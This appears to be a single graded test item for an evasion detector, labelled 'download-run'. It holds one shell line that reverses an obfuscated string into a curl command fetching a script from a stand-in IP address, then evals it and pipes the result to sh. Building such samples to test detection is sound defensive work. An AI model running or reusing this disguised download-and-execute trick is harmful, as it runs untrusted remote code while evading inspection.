# evasion: a reversed download command through eval
# grade: hard; does: download-run
x=$(echo 'hs.nioj/5.311.0.302//:ptth Ls- lruc' | rev); eval "$x" | sh
